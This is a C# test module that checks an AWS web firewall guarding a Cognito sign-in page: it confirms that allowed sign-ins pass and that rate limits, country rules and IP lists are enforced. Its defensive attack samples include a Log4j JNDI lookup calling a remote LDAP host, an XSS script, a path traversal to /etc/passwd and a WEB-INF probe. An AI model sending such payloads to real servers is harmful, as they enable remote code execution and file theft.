using System.Net;
using CognitoStack.Assurance.Access;
using CognitoStack.Configuration;
using CognitoStack.Templates;
using CognitoStack.Templates.Firewall;

namespace CognitoStack.Assurance.Firewall;

/// <summary>The web firewall lets every sign-in of the environment through, rule by rule, and stops what the file says it stops.</summary>
public static class FirewallProof
{
    /// <summary>Name of the proof.</summary>
    public const string Name = "firewall";

    /// <summary>Addresses for documentation and tests: of any number of lists, one of these is in none.</summary>
    private static readonly string[] Ordinary =
    [
        "192.0.2.10",
        "198.51.100.10",
        "203.0.113.10",
        "198.18.0.10",
        "2001:db8:ffff::10",
        "8.8.8.8",
        "100.64.0.10",
    ];

    /// <summary>Countries that are asked for where only some are let in.</summary>
    private static readonly string[] Asked = ["DE", "US", "CN", "BR"];

    /// <summary>Judges requests.</summary>
    public static ProofResult Of(Intent intent, TemplateSet templates)
    {
        var pool = templates.OfType("AWS::Cognito::UserPool").First();
        var acl = WebAcl.Before(pool, templates);
        if (acl is null || intent.Firewall is not { } waf)
            return (acl is null) == (intent.Firewall is null)
                ? new(Name, [], []) { Examined = "1 user pool without a firewall, as the file says" }
                : new(
                    Name,
                    [],
                    [
                        new(
                            "the firewall",
                            "stands before",
                            pool.LogicalId,
                            intent.Firewall is null ? "nobody" : "the user pool",
                            acl is null ? "nobody" : acl.Label,
                            string.Empty
                        ),
                    ]
                );

        // A caller whom no list names; where none is left, lists alone decide, and there is nobody ordinary to ask for.
        var ordinary = Ordinary.Select(IPAddress.Parse).FirstOrDefault(a => !In(waf.AllowCidrs, a) && !In(waf.BlockCidrs, a));
        var country = waf.Countries.Count > 0 ? waf.Countries[^1] : "DE";
        List<Decision> decisions = [];
        if (ordinary is not null)
        {
            foreach (var signIn in SignInRequests.Of(intent, ordinary, country))
                Ask($"client {signIn.Client}", signIn.What, signIn.Request, passes: true);
            Ask(
                "a caller at the limit",
                "signs in once more",
                SignIn(ordinary) with
                {
                    Country = country,
                },
                passes: true,
                waf.RateLimitPer5Minutes - 1
            );
            Ask(
                "a caller above the limit",
                "signs in once more",
                SignIn(ordinary) with
                {
                    Country = country,
                },
                passes: false,
                waf.RateLimitPer5Minutes
            );
            if (waf.Countries.Count > 0)
                foreach (var elsewhere in Asked.Except(waf.Countries))
                    Ask(
                        $"a caller from {elsewhere}",
                        "opens the sign-in page",
                        SignIn(ordinary) with
                        {
                            Country = elsewhere,
                        },
                        passes: false
                    );
            foreach (var open in waf.Countries)
                Ask($"a caller from {open}", "opens the sign-in page", SignIn(ordinary) with { Country = open }, passes: true);
            foreach (var (what, attack) in Attacks(ordinary))
                Ask("an attacker", what, attack with { Country = country }, passes: !(waf is { ManagedRules: true, Mode: WafMode.Block }));
        }

        foreach (var range in waf.AllowCidrs)
            Ask($"{range}, let in", "signs in above the limit", SignIn(First(range)), passes: true, waf.RateLimitPer5Minutes * 2);
        foreach (var range in waf.BlockCidrs.Where(r => !In(waf.AllowCidrs, First(r))))
            Ask($"{range}, kept out", "opens the sign-in page", SignIn(First(range)) with { Country = country }, passes: false);
        return ProofResult.Of(Name, decisions);

        void Ask(string who, string what, InspectedRequest request, bool passes, int requestsBefore = 0)
        {
            var verdict = acl.Judge(request, (_, seconds) => seconds == 300 ? requestsBefore : int.MaxValue - 1);
            decisions.Add(
                new()
                {
                    Subject = who,
                    Action = what,
                    Container = acl.Label,
                    Label = $"{request.Method} {request.Path}",
                    Resource = request.Query.Length > 60 ? request.Query[..60] + "…" : request.Query,
                    Expected = passes,
                    Allowed = verdict.Passes,
                    DecidedBy = verdict.Matched is null ? verdict.Rule ?? "the default action" : $"{verdict.Rule}: {verdict.Matched}",
                }
            );
        }
    }

    private static InspectedRequest SignIn(IPAddress address) =>
        new()
        {
            Address = address,
            Path = "/login",
            UserAgent = "Mozilla/5.0",
            Query = "client_id=1example23456789abcdefghij",
        };

    /// <summary>What AWS says its rules stop, and no exception of this project lets pass.</summary>
    private static IEnumerable<(string What, InspectedRequest Request)> Attacks(IPAddress address) =>
        [
            ("looks for holes", SignIn(address) with { UserAgent = "nmap" }),
            ("puts a script into the query", SignIn(address) with { Query = "state=%3Cscript%3Ealert(1)%3C/script%3E" }),
            ("asks for a file of the server", SignIn(address) with { Query = "lang=../../etc/passwd" }),
            ("tries Log4j", SignIn(address) with { UserAgent = "${jndi:ldap://198.51.100.1/a}" }),
            ("asks for WEB-INF", SignIn(address) with { Path = "/WEB-INF/web.xml" }),
        ];

    private static IPAddress First(string range) => IPNetwork.Parse(range).BaseAddress;

    private static bool In(IEnumerable<string> ranges, IPAddress address) => ranges.Any(r => IPNetwork.Parse(r).Contains(address));
}
